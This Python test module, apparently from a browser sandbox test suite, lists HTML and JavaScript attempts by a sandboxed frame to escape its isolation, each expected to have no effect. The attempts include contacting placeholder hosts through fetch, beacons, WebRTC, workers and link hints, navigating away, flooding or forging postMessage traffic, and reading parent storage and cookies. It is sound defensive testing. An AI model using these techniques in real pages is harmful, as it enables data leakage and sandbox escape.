"""HTML whose scripts the reader runs: what it tries from its frame."""

from tests.browser.attacks.attack import NO_EFFECT, Attack

TRIED = "<script>document.documentElement.dataset.tried = 'yes'</script>"
"""What an attack ends with, by which the test sees that it got so far."""


def _script(name: str, code: str) -> Attack:
    """Code that may wait; it is over when it says so."""
    text = f"""<p>still</p><script>
(async () => {{
  const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 1500))]);
  try {{ {code} }} catch (error) {{ document.documentElement.dataset.error = String(error); }}
  document.documentElement.dataset.tried = 'yes';
}})();
</script>"""
    return Attack(name, "output", text, NO_EFFECT)


def _html(name: str, html: str) -> Attack:
    return Attack(name, "output", html + TRIED, NO_EFFECT)


NETWORK = (
    _script("frame fetch", "await within(fetch('@http@', { mode: 'no-cors' }))"),
    _script(
        "frame fetch that outlives it", "await within(fetch('@http@', { mode: 'no-cors', keepalive: true }))"
    ),
    _script(
        "frame XHR",
        "const x = new XMLHttpRequest(); x.open('GET', '@http@'); x.send(); await within(new Promise((d) => x.onloadend = d))",
    ),
    _script(
        "frame synchronous XHR", "const x = new XMLHttpRequest(); x.open('GET', '@http@', false); x.send()"
    ),
    _script(
        "frame WebSocket", "const s = new WebSocket('@ws@'); await within(new Promise((d) => s.onopen = d))"
    ),
    _script(
        "frame EventSource",
        "const s = new EventSource('@http@'); await within(new Promise((d) => s.onopen = d))",
    ),
    _script("frame beacon", "navigator.sendBeacon('@http@', 'x')"),
    _script("frame later fetch", "fetchLater('@http@', { activateAfter: 0 })"),
    _script(
        "frame picture",
        "const i = new Image(); i.src = '@http@'; await within(new Promise((d) => i.onload = d))",
    ),
    _script("frame import", "await within(import('@http@'))"),
    _script(
        "frame script",
        "const s = document.createElement('script'); s.src = '@http@'; document.body.append(s)",
    ),
    _script(
        "frame peer connection",
        """for (const make of [window.RTCPeerConnection, window.webkitRTCPeerConnection]) {
             if (!make) continue;
             const p = new make({ iceServers: [{ urls: '@stun@' }] }); p.createDataChannel('x');
             await p.setLocalDescription(await p.createOffer()); await within(new Promise(() => {}));
           }""",
    ),
    _script(
        "frame peer connection of a fresh window",
        """const f = document.createElement('iframe'); document.body.append(f);
           const made = f.contentWindow.RTCPeerConnection;
           document.documentElement.dataset.reached = String(made);
           const p = new made({ iceServers: [{ urls: '@stun@' }] }); p.createDataChannel('x');
           await p.setLocalDescription(await p.createOffer()); await within(new Promise(() => {}));""",
    ),
    _script(
        "frame WebTransport", "const t = new WebTransport('https://@host@:@port@/x'); await within(t.ready)"
    ),
    _script(
        "frame worker",
        """const code = "fetch('@http@', { mode: 'no-cors' })";
           for (const a of [URL.createObjectURL(new Blob([code])), 'data:text/javascript,' + encodeURIComponent(code)])
             try { new Worker(a) } catch {}
           try { new SharedWorker('data:text/javascript,' + encodeURIComponent(code)) } catch {}
           await within(new Promise(() => {}));""",
    ),
    _script("frame service worker", "await within(navigator.serviceWorker.register('@http@'))"),
    _script("frame worklet", "await within(CSS.paintWorklet.addModule('@http@'))"),
    _script("frame audio worklet", "await within(new AudioContext().audioWorklet.addModule('@http@'))"),
    _script(
        "frame window",
        "window.open('@http@'); window.open('@http@', '_top'); window.open('@http@', '_parent')",
    ),
    _script(
        "frame top",
        "try { top.location = '@http@' } catch {} try { parent.location.href = '@http@' } catch {}",
    ),
    _script(
        "frame link that is clicked",
        """for (const target of ['_blank', '_top', '_parent']) { const a = document.createElement('a');
             a.href = '@http@'; a.target = target; a.ping = '@http@'; document.body.append(a); a.click(); }
           const d = document.createElement('a'); d.href = 'data:text/plain,x'; d.download = 'x'; document.body.append(d); d.click();""",
    ),
    _script(
        "frame form",
        """const f = document.createElement('form'); f.action = '@http@'; f.method = 'post'; f.target = '_blank';
           document.body.append(f); f.submit(); f.target = ''; f.requestSubmit();""",
    ),
    _script(
        "frame report",
        "new ReportingObserver(() => {}).observe(); document.cookie = 'a=1'; await navigator.share({ url: '@http@' })",
    ),
    _html(
        "frame style",
        "<style>@import '@http@'; @font-face { font-family: x; src: url(@http@) } p { background: url(@http@); font-family: x }</style><p>x</p>",
    ),
    _html(
        "frame hints",
        "<link rel=prefetch href=@http@><link rel=preload as=script href=@http@><link rel=modulepreload href=@http@><link rel=preconnect href=@http@><link rel=dns-prefetch href=@rest@><link rel=prerender href=@http@><link rel=icon href=@http@><link rel=stylesheet href=@http@><link rel=manifest href=@http@>",
    ),
    _html(
        "frame hint turned on",
        "<meta http-equiv=x-dns-prefetch-control content=on><a href=@http@>x</a><link rel=dns-prefetch href=@rest@>",
    ),
    _html(
        "frame speculation rules",
        '<script type=speculationrules>{"prefetch": [{"urls": ["@http@"], "eagerness": "immediate"}], "prerender": [{"urls": ["@http@"], "eagerness": "immediate"}]}</script>',
    ),
    _html(
        "frame import map",
        '<script type=importmap>{"imports": {"x": "@http@"}}</script><script type=module>import "x"</script>',
    ),
    _html(
        "frame media",
        "<video src=@http@ poster=@http@ autoplay></video><audio src=@http@ autoplay></audio><video><source src=@http@><track src=@http@></video><input type=image src=@http@><object data=@http@></object><embed src=@http@>",
    ),
    _html(
        "frame SVG",
        "<svg><image href=@http@ /><use href='@http@#x' /><script href=@http@></script><feImage href=@http@ /></svg>",
    ),
    _html(
        "frame frames",
        "<iframe src=@http@></iframe><iframe srcdoc=\"<img src=@http@><script>parent.parent.postMessage(1,'*')</script>\"></iframe><fencedframe src=@http@></fencedframe>",
    ),
    Attack(
        "frame policy of its own",
        "output",
        # A second policy can only forbid more, inline scripts among it.
        TRIED
        + '<meta http-equiv=content-security-policy content="default-src *; report-uri @http@"><img src=@http@>',
        NO_EFFECT,
    ),
    _html(
        "frame attribution", "<img attributionsrc=@http@ src=data:,><script attributionsrc=@http@></script>"
    ),
)
"""Ways out of it."""

CONNECTING = _script(
    "frame peer connection in a document within",
    """const f = document.createElement('iframe');
       f.srcdoc = `<script>const p = new RTCPeerConnection({ iceServers: [{ urls: '@stun@' }] });
         p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>`;
       document.body.append(f); await within(new Promise(() => {}));""",
)
"""Chromium ends the process in which a document tries this, so it has a page of its own."""

LEAVING = tuple(
    Attack(name, "output", html, NO_EFFECT)
    for name, html in (
        ("frame goes away", "<script>location = '@http@'</script>"),
        ("frame is refreshed away", "<meta http-equiv=refresh content='0;url=@http@'><script></script>"),
        ("frame goes to the app", "<script>location = '@app@/'</script>"),
        (
            "frame submits itself away",
            "<form action=@http@></form><script>document.forms[0].submit()</script>",
        ),
    )
)
"""After these there is nobody to ask."""

TALKATIVE = (
    _script(
        "frame flood of its port",
        """const send = MessagePort.prototype.postMessage;
           MessagePort.prototype.postMessage = function (message) { for (let n = 0; n < 5000; n++) send.call(this, message) };
           document.body.style.height = '300px';""",
    ),
)
"""What the page closes, since it cannot read all that."""

HUGE = _script(
    "frame huge message",
    """const send = MessagePort.prototype.postMessage; let once = false;
       MessagePort.prototype.postMessage = function (message) {
         send.call(this, once ? message : { type: 'refused', host: 'x'.repeat(5e7) }); once = true };
       document.body.style.height = '300px';""",
)


FORGERIES = (
    *TALKATIVE,
    HUGE,
    _script(
        "frame flood of the page",
        "for (let n = 0; n < 20000; n++) parent.postMessage({ fenced: 'hello', supervisor: 'x' + n }, '*')",
    ),
    _script(
        "frame forged hello",
        """for (const to of [parent, top, ...Array.from({ length: 5 }, (_, n) => parent.frames[n]).filter(Boolean)])
             for (const data of [{ fenced: 'hello', supervisor: 'x' }, { fenced: 'ask' }, { fenced: 'port' }, { type: 'open' }])
               to.postMessage(data, '*', [new MessageChannel().port2]);""",
    ),
    _script(
        "frame reads its surroundings",
        """const got = [];
           for (const [name, look] of Object.entries({
             document: () => parent.document, storage: () => parent.localStorage, own: () => localStorage,
             session: () => sessionStorage, database: () => indexedDB.open('x'), cookie: () => document.cookie,
             caches: () => caches.keys(), sibling: () => parent.frames[0].document, opener: () => opener.document,
             location: () => parent.location.href, element: () => frameElement.ownerDocument,
             files: () => navigator.storage.getDirectory(), locks: () => navigator.locks.query(),
           })) try { if (await within(look())) got.push(name) } catch {}
           document.documentElement.dataset.got = got.join(' ');""",
    ),
    _script(
        "frame forged height",
        """const send = MessagePort.prototype.postMessage;
           MessagePort.prototype.postMessage = function (message) {
             if (message.type === 'height') for (const height of [1e9, -1, NaN, '9', Infinity, 1e9]) send.call(this, { type: 'height', height });
             else send.call(this, message);
           };
           document.body.style.height = '5000px';""",
    ),
)
"""What it says to the page and to other frames."""

FRAMES = (*NETWORK, *LEAVING, *FORGERIES)
